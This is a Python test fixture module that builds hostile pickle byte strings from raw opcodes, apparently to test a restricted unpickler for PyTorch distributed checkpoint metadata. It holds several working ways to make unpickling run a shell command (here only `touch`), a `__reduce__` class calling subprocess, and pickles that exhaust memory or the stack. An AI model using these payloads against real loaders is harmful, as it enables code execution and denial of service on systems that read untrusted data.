"""Pickles that run code, fill memory or overflow a stack, assembled from opcodes."""

import pickle
import subprocess
from pathlib import Path


def text(word: str) -> bytes:
    """Return the opcode that pushes a string."""
    raw = word.encode()
    return b"X" + len(raw).to_bytes(4, "little") + raw


DCP = "torch.distributed.checkpoint"
METADATA = f"c{DCP}.metadata\nMetadata\n".encode()
RUN_BY = {  # the opcodes, with COMMAND for the text of the command
    "posix.system": b"cposix\nsystem\nCOMMAND\x85R",
    "a name by a stack": text("os") + text("system") + b"\x93COMMAND\x85R",
    "a module in DCP's module": f"c{DCP}.filesystem\nos.system\n".encode() + b"COMMAND\x85R",
    "getattr of an allowed class": b"cbuiltins\ngetattr\n" + METADATA + text("__init__") + b"\x86R",
    "an instance of old": b"(COMMANDiposix\nsystem\n",
    "an extension's number": b"\x82\x01",
    "a persistent name": b"Pposix.system\n",
    "a class's own state": METADATA + b"N}" + text("__init__") + b"cposix\nsystem\n" + b"s\x86b",
}


def run_by(name: str, target: Path) -> bytes:
    """Return a pickle that executes `touch target` when it is read, in the given way."""
    return b"\x80\x02" + RUN_BY[name].replace(b"COMMAND", text(f"touch {target}")) + b"."


EXHAUSTING = {
    "no end": b"\x80\x04}",
    "a memo of 2^31 places": b"\x80\x04}r\xff\xff\xff\x7f.",  # the C unpickler allocates 32 GB for it
    "bytes of 2^60": b"\x80\x05\x8e" + (1 << 60).to_bytes(8, "little") + b".",
    "a number of 5,000 digits": b"L" + b"9" * 5000 + b"L\n.",
    "a million nested lists": b"\x80\x04" + b"]" * 1_000_000 + b"a" * 999_999 + b".",
    "2^40 containers that share": b"\x80\x04]\x94"
    + b"".join(b"]h%ch%ca\x94" % (i, i) for i in range(40))
    + b".",
    "a missing memo entry": b"\x80\x04h\x07.",
    "an ordinary dictionary": pickle.dumps({"state_dict_metadata": {}, "storage_data": {}}),
}


class RunsWhenRead:
    """An object whose pickle touches a file when it is unpickled."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple:
        return subprocess.call, (["touch", str(self.target)],)
